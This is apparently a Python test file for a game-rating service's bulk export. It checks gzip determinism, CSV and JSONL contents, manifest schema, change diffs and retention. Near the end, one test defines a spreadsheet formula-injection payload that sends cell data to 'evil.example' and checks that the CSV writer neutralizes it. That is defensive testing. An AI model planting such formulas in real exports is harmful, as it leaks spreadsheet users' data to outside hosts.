"""Tests of the Bulk export (build.export): files, determinism, changes, manifest, links."""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import hashlib
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema_rs
import orjson
import pytest

from bangscore.build.export import (
    CSV_COLUMNS,
    Export,
    changes,
    csv_cell,
    export_records,
    gzip_bytes,
    list_exports,
    render_export,
    write_export,
)
from bangscore.build.openapi import DETAIL_PROPERTIES
from bangscore.build.score_history import read_score_history
from bangscore.contract.export import (
    CHANGES_JSONL,
    CHANGES_PARQUET,
    FILES,
    FORECASTS_PARQUET,
    GAMES_CSV,
    GAMES_JSONL,
    GAMES_PARQUET,
    LATEST_KEY,
    PARQUET_TYPE,
    PRICE_HISTORY_PARQUET,
    SCORE_HISTORY_PARQUET,
    TAGS_PARQUET,
    ExportManifest,
    SourceLicence,
    export_manifest_key,
    file_key,
    presigned_urls,
    read_latest,
)
from bangscore.contract.objects import ROOT_KEY, detail_key
from bangscore.manifest import read_body, read_manifest
from bangscore.scoring.pipeline import ScoredGame, score_catalog
from bangscore.scoring.records import GameRecord, Provenance
from bangscore.storage import LocalStorage, MemoryStorage
from tests.support import factories

T0 = dt.datetime(2026, 11, 1, tzinfo=dt.UTC)


def scored(records: list[GameRecord]) -> list[ScoredGame]:
    return score_catalog(records)


def records_of(games: list[ScoredGame]) -> list[dict[str, Any]]:
    """Return the games' detail records as the export holds them (the verdict included)."""
    return export_records(games, factories.SITE, factories.PRICES_AS_OF)


def unzip_lines(body: bytes) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in gzip.decompress(body).splitlines()]


@pytest.fixture
def catalog_factory() -> Callable[..., list[GameRecord]]:
    """Return a factory: given appids and price overrides, records with those appids."""

    def make(appids: list[int], prices: dict[int, float] | None = None) -> list[GameRecord]:
        prices = prices or {}
        return [
            factories.make_record(
                appid=a,
                name=f"Game {a}",
                price_usd=prices.get(a, 19.99),
                list_price_usd=max(prices.get(a, 19.99), 19.99),
            )
            for a in appids
        ]

    return make


def test_gzip_is_deterministic() -> None:
    first = gzip_bytes([b"a" * 1000, b"b\n"])
    second = gzip_bytes([b"a" * 1000 + b"b\n"])
    assert first == second
    assert first[4:8] == b"\0\0\0\0"  # MTIME field of the gzip header (RFC 1952)
    assert gzip.decompress(first) == b"a" * 1000 + b"b\n"


def test_files_hold_the_detail_records(catalog_factory: Callable[..., list[GameRecord]]) -> None:
    games = scored(catalog_factory([10, 20, 30]))
    records = records_of(games)
    export = render_export(records, snapshot_id="s1", created_at=T0)
    assert unzip_lines(export.bodies[GAMES_JSONL]) == records
    rows = list(csv.reader(io.StringIO(gzip.decompress(export.bodies[GAMES_CSV]).decode())))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [int(r[CSV_COLUMNS.index("appid")]) for r in rows[1:]] == [r["appid"] for r in records]
    first = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert first["sources.storefront"] == "2025-01-01"
    assert first["sources.wiki"] == ""
    assert first["price_usd"] == "19.99"
    assert first["tags"] == "|".join(records[0]["tags"])


def test_export_records_equal_the_snapshot_detail_records(
    small_snapshot: tuple[Any, list[ScoredGame]],
) -> None:
    # The Bulk export carries every field of the detail record, the verdict, its price and
    # sentence, the genre percentile and the flags included (docs/API.md#export): the same
    # records, value for value, as the snapshot serves at /api/v1/games/{appid}.
    storage, games = small_snapshot
    entries = read_manifest(storage, "s1").entries
    histories = read_score_history(storage)
    # The forecast starts from the snapshot's day, which its root listing names.
    day = dt.date.fromisoformat(orjson.loads(read_body(storage, entries[ROOT_KEY]))["as_of"])
    exported = export_records(games, factories.SITE, factories.PRICES_AS_OF, histories, day)
    assert len(exported) == len(games) > 40
    for game, record in zip(games, exported, strict=True):
        served = orjson.loads(read_body(storage, entries[detail_key(game.record.appid)]))
        assert list(record) == list(served)
        assert set(record) == set(DETAIL_PROPERTIES)
        assert record == served
    assert {r["verdict"] for r in exported} >= {"buy_now", "skip"}


def test_csv_holds_provenance_as_json() -> None:
    seen = Provenance(source="steam_pics_2026", kind="storefront", date=dt.date(2026, 7, 24))
    record = factories.make_record(appid=10, provenance={"name": seen, "tags": seen})
    export = render_export(records_of(scored([record])), snapshot_id="s1", created_at=T0)
    rows = list(csv.reader(io.StringIO(gzip.decompress(export.bodies[GAMES_CSV]).decode())))
    cell = dict(zip(CSV_COLUMNS, rows[1], strict=True))["provenance"]
    assert orjson.loads(cell) == {
        name: {"source": "steam_pics_2026", "kind": "storefront", "date": "2026-07-24"}
        for name in ("name", "tags")
    }


SCHEMA = orjson.loads((Path(__file__).parents[2] / "docs/export-manifest.schema.json").read_bytes())


def valid(manifest: dict[str, Any]) -> bool:
    """Return True if the manifest validates against docs/export-manifest.schema.json."""
    return bool(jsonschema_rs.validator_for(SCHEMA).is_valid(manifest))


def test_manifest_describes_each_file(catalog_factory: Callable[..., list[GameRecord]]) -> None:
    records = records_of(scored(catalog_factory([10, 20, 30])))
    sources = (SourceLicence("steamspy_all_2025-01-01", "woctezuma/steamspy-data", "MIT"),)
    export = render_export(
        records, snapshot_id="s1", created_at=T0, site_url=factories.SITE, sources=sources
    )
    expected = {
        GAMES_JSONL: ("jsonl", "application/jsonl", "gzip", 3),
        GAMES_CSV: ("csv", "text/csv", "gzip", 3),
        CHANGES_JSONL: ("jsonl", "application/jsonl", "gzip", 3),
        GAMES_PARQUET: ("parquet", PARQUET_TYPE, None, 3),
        PRICE_HISTORY_PARQUET: ("parquet", PARQUET_TYPE, None, 0),
        SCORE_HISTORY_PARQUET: ("parquet", PARQUET_TYPE, None, 0),
        TAGS_PARQUET: ("parquet", PARQUET_TYPE, None, sum(len(r["tags"]) for r in records)),
        FORECASTS_PARQUET: (
            "parquet",
            PARQUET_TYPE,
            None,
            sum(bool(r["next_sale"]) for r in records),
        ),
        CHANGES_PARQUET: ("parquet", PARQUET_TYPE, None, 3),
    }
    listed = [f.to_json() for f in export.manifest.files]
    assert {
        f["name"]: (f["format"], f["content_type"], f["content_encoding"], f["rows"])
        for f in listed
    } == expected
    for entry in export.manifest.files:
        body = export.bodies[entry.name]
        assert entry.bytes == len(body)
        assert entry.sha256 == hashlib.sha256(body).hexdigest()
        assert entry.schema_version == 2
        assert entry.updated_at == T0
        assert entry.address == f"{factories.SITE}/export/s1/{entry.name}"
    manifest = orjson.loads(export.manifest.to_bytes())
    assert valid(manifest)
    assert manifest["licence"]["attribution"] == {
        "required": True,
        "text": "Game value ratings by BangScore",
        "url": factories.SITE,
    }
    assert manifest["sources"] == [
        {"folder": "steamspy_all_2025-01-01", "origin": "woctezuma/steamspy-data", "licence": "MIT"}
    ]
    assert [c["name"] for c in manifest["tables"]["games"]["columns"]] == list(DETAIL_PROPERTIES)
    assert ExportManifest.from_bytes(export.manifest.to_bytes()) == export.manifest


@pytest.mark.parametrize(
    ("mangle", "why"),
    [
        (lambda m: m.pop("licence"), "no licence"),
        (lambda m: m["files"][0].pop("address"), "a file without its address"),
        (lambda m: m["files"][0].update(sha256="x" * 64), "a digest that is no hex"),
        (lambda m: m["tables"]["games"]["columns"][0].pop("description"), "an undescribed column"),
    ],
    ids=["licence", "address", "sha256", "description"],
)
def test_the_json_schema_refuses_a_broken_manifest(
    catalog_factory: Callable[..., list[GameRecord]], mangle: Callable[[Any], Any], why: str
) -> None:
    manifest = orjson.loads(_export(catalog_factory).manifest.to_bytes())
    mangle(manifest)
    assert not valid(manifest), why


def test_a_version_1_manifest_still_reads() -> None:
    # latest.json as builds before the Parquet tables wrote it: the server keeps answering.
    old = {
        "schema_version": 1,
        "snapshot": "s0",
        "created_at": T0.isoformat(),
        "previous": None,
        "files": [
            {
                "name": GAMES_JSONL,
                "format": "jsonl",
                "compression": "gzip",
                "bytes": 10,
                "sha256": "0" * 64,
                "rows": 1,
                "schema_version": 1,
            }
        ],
    }
    manifest = ExportManifest.from_bytes(orjson.dumps(old))
    (entry,) = manifest.files
    assert (entry.updated_at, entry.address, manifest.tables) == (
        T0,
        "export/s0/games.jsonl.gz",
        {},
    )


def test_equal_content_gives_equal_bytes(catalog_factory: Callable[..., list[GameRecord]]) -> None:
    records = records_of(scored(catalog_factory([10, 20])))
    one = render_export(records, snapshot_id="s1", created_at=T0)
    two = render_export(records, snapshot_id="s2", created_at=T0 + dt.timedelta(days=1))
    assert one.bodies == two.bodies
    assert [(f.name, f.sha256, f.rows) for f in one.manifest.files] == [
        (f.name, f.sha256, f.rows) for f in two.manifest.files
    ]


def test_an_unchanged_file_keeps_its_updated_at(
    catalog_factory: Callable[..., list[GameRecord]],
) -> None:
    records = records_of(scored(catalog_factory([10, 20])))
    one = render_export(records, snapshot_id="s1", created_at=T0)
    later = T0 + dt.timedelta(days=1)
    two = render_export(
        records,
        snapshot_id="s2",
        created_at=later,
        previous=one.manifest,
        previous_games=one.bodies[GAMES_JSONL],
    )
    updated = {f.name: f.updated_at for f in two.manifest.files}
    # The games are the same bytes; the changes differ (every game added, then none).
    assert {n for n, at in updated.items() if at == T0} == {
        GAMES_JSONL,
        GAMES_CSV,
        GAMES_PARQUET,
        PRICE_HISTORY_PARQUET,
        SCORE_HISTORY_PARQUET,
        TAGS_PARQUET,
        FORECASTS_PARQUET,
    }
    assert updated[CHANGES_JSONL] == updated[CHANGES_PARQUET] == later


def _line(appid: int, price: float) -> tuple[int, bytes]:
    return appid, orjson.dumps({"appid": appid, "price_usd": price})


def _digests(*lines: tuple[int, bytes]) -> dict[int, str]:
    return {a: hashlib.sha256(line).hexdigest() for a, line in lines}


@pytest.mark.parametrize(
    ("previous", "current", "expected"),
    [
        (None, [_line(2, 1.0), _line(1, 1.0)], [(1, "added"), (2, "added")]),
        ({}, [_line(1, 1.0)], [(1, "added")]),
        (_digests(_line(1, 1.0)), [_line(1, 1.0)], []),
        (_digests(_line(1, 1.0)), [_line(1, 2.0)], [(1, "changed")]),
        (_digests(_line(1, 1.0), _line(5, 1.0)), [_line(1, 1.0)], [(5, "removed")]),
        (
            _digests(_line(1, 1.0), _line(2, 1.0), _line(3, 1.0)),
            [_line(4, 1.0), _line(3, 9.0), _line(1, 1.0)],
            [(2, "removed"), (3, "changed"), (4, "added")],
        ),
    ],
    ids=["first-export", "empty-previous", "unchanged", "changed", "removed", "mixed-sorted"],
)
def test_changes(
    previous: dict[int, str] | None,
    current: list[tuple[int, bytes]],
    expected: list[tuple[int, str]],
) -> None:
    out = changes(previous, current)
    decoded = [orjson.loads(line) for _, line in out]
    assert [(d["appid"], d["change"]) for d in decoded] == expected
    assert [kind for kind, _ in out] == [kind for _, kind in expected]
    new = dict(current)
    for entry in decoded:
        if entry["change"] == "removed":
            assert entry["record"] is None
        else:
            assert orjson.dumps(entry["record"]) == new[entry["appid"]]


def test_write_export_diffs_against_the_previous_one(
    tmp_path: Path, catalog_factory: Callable[..., list[GameRecord]]
) -> None:
    storage = LocalStorage(tmp_path / "export")
    assert read_latest(storage) is None
    first = write_export(
        storage,
        scored(catalog_factory([10, 20, 30])),
        snapshot_id="s1",
        created_at=T0,
        site_url=factories.SITE,
        keep=7,
    )
    assert first.counts == {"added": 3, "changed": 0, "removed": 0}
    games = scored(catalog_factory([20, 30, 40], prices={30: 4.99}))
    second = write_export(
        storage, games, snapshot_id="s2", created_at=T0, site_url=factories.SITE, keep=7
    )
    assert second.counts == {"added": 1, "changed": 1, "removed": 1}
    assert second.manifest.previous == "s1"
    latest = read_latest(storage)
    assert latest == second.manifest
    assert storage.get(export_manifest_key("s2")) == storage.get(LATEST_KEY)
    delta = unzip_lines(storage.get(file_key("s2", CHANGES_JSONL)))
    assert [(d["appid"], d["change"]) for d in delta] == [
        (10, "removed"),
        (30, "changed"),
        (40, "added"),
    ]
    assert delta[1]["record"]["price_usd"] == 4.99
    for entry in second.manifest.files:
        body = storage.get(file_key("s2", entry.name))
        assert hashlib.sha256(body).hexdigest() == entry.sha256


@pytest.mark.parametrize(("builds", "keep"), [(4, 2), (9, 7)], ids=["keep-2", "keep-7"])
def test_write_export_keeps_the_newest(
    catalog_factory: Callable[..., list[GameRecord]], builds: int, keep: int
) -> None:
    storage = MemoryStorage()
    for i in range(builds):
        games = scored(catalog_factory([10 + i]))
        write_export(
            storage, games, snapshot_id=f"s{i}", created_at=T0, site_url=factories.SITE, keep=keep
        )
    assert list_exports(storage) == [f"s{i}" for i in range(builds - keep, builds)]
    assert read_latest(storage) is not None
    assert storage.get(LATEST_KEY) == storage.get(export_manifest_key(f"s{builds - 1}"))


def _files(root: Path) -> dict[str, tuple[int, int, bytes]]:
    """Return every file under a folder: relative path -> (inode, mtime in ns, bytes)."""
    return {
        str(p.relative_to(root)): (p.stat().st_ino, p.stat().st_mtime_ns, p.read_bytes())
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def test_an_export_file_is_never_rewritten(
    tmp_path: Path, catalog_factory: Callable[..., list[GameRecord]]
) -> None:
    # An address under a snapshot id keeps its bytes (docs/API.md#bulk-data): building the
    # same snapshot id again, even from other games, writes none of its files again.
    storage = LocalStorage(tmp_path / "export")
    first = write_export(
        storage,
        scored(catalog_factory([10, 20])),
        snapshot_id="s1",
        created_at=T0,
        site_url=factories.SITE,
        keep=7,
    )
    folder = tmp_path / "export" / "export" / "s1"
    before = _files(folder)
    assert set(before) == {*FILES, "manifest.json"}
    write_export(
        storage,
        scored(catalog_factory([20, 30], prices={20: 4.99})),
        snapshot_id="s2",
        created_at=T0 + dt.timedelta(days=1),
        site_url=factories.SITE,
        keep=7,
    )
    again = write_export(
        storage,
        scored(catalog_factory([40], prices={40: 1.99})),
        snapshot_id="s1",
        created_at=T0 + dt.timedelta(days=2),
        site_url=factories.SITE,
        keep=7,
    )
    assert _files(folder) == before
    assert again.manifest == first.manifest
    assert again.counts == {"added": 0, "changed": 0, "removed": 0}
    assert read_latest(storage) == first.manifest  # the export built last is current


def _export(catalog_factory: Callable[..., list[GameRecord]]) -> Export:
    return render_export(records_of(scored(catalog_factory([10]))), snapshot_id="s1", created_at=T0)


def test_presigned_urls_need_a_fallback_for_a_folder(
    tmp_path: Path, catalog_factory: Callable[..., list[GameRecord]]
) -> None:
    manifest = _export(catalog_factory).manifest
    storage = LocalStorage(tmp_path)
    with pytest.raises(ValueError, match="presign"):
        presigned_urls(storage, manifest, expires_in=60, now=1000.0)
    links = presigned_urls(
        storage,
        manifest,
        expires_in=60,
        now=1000.5,
        fallback=lambda key, expires_at: f"https://x/{key}?e={expires_at}",
    )
    assert links[GAMES_CSV].url == "https://x/export/s1/games.csv.gz?e=1060"
    assert {link.expires_at for link in links.values()} == {1060}


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def test_csv_cells_a_spreadsheet_would_run_are_neutralized_in_the_written_file(
    tmp_path: Path,
) -> None:
    """Issue 45 finding 7: 29 cells of the real games.csv.gz began with ``-``, ``+`` or ``@``
    and a name ``=HYPERLINK(...)`` passed through. Text cells beginning with = + - @, a tab
    or a carriage return get a leading ', numbers stay numbers; JSON lines keep the text."""
    texts = {
        10: (HYPERLINK, "@Evil Dev", "+Plus Pub"),
        11: ("-KLAUS-", "\tTabbed", "\rReturned"),
        12: ("Plain = Name", "Dev - Studio", "Pub@Home"),
    }
    records = [
        factories.make_record(appid=appid, name=name, developer=dev, publisher=pub)
        for appid, (name, dev, pub) in texts.items()
    ]
    write_export(
        LocalStorage(tmp_path),
        scored(records),
        snapshot_id="s1",
        created_at=T0,
        site_url=factories.SITE,
        keep=7,
    )
    [written] = tmp_path.rglob(GAMES_CSV)
    with gzip.open(written, "rt", newline="") as text:
        rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in list(csv.reader(text))[1:]]
    cells = {int(r["appid"]): (r["name"], r["developer"], r["publisher"]) for r in rows}
    assert cells == {
        10: ("'" + HYPERLINK, "'@Evil Dev", "'+Plus Pub"),
        11: ("'-KLAUS-", "'\tTabbed", "'\rReturned"),
        12: ("Plain = Name", "Dev - Studio", "Pub@Home"),  # only the first character counts
    }
    assert all(float(r["price_usd"]) == 19.99 for r in rows)
    [jsonl] = tmp_path.rglob(GAMES_JSONL)
    assert {r["appid"]: r["name"] for r in unzip_lines(jsonl.read_bytes())}[10] == HYPERLINK


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param(-3.5, "-3.5", id="a negative number stays a number"),
        pytest.param(-2, "-2", id="a negative integer too"),
        pytest.param(True, "True", id="boolean"),
        pytest.param("-3.5", "'-3.5", id="text that looks like a number is text"),
        pytest.param(["-Punk", "Rock"], "'-Punk|Rock", id="a list's joined text"),
        pytest.param(["Rock", "-Punk"], "Rock|-Punk", id="only the cell's first character"),
        pytest.param({"a": "=1"}, '{"a":"=1"}', id="JSON begins with a brace"),
        pytest.param(None, "", id="null"),
    ],
)
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell
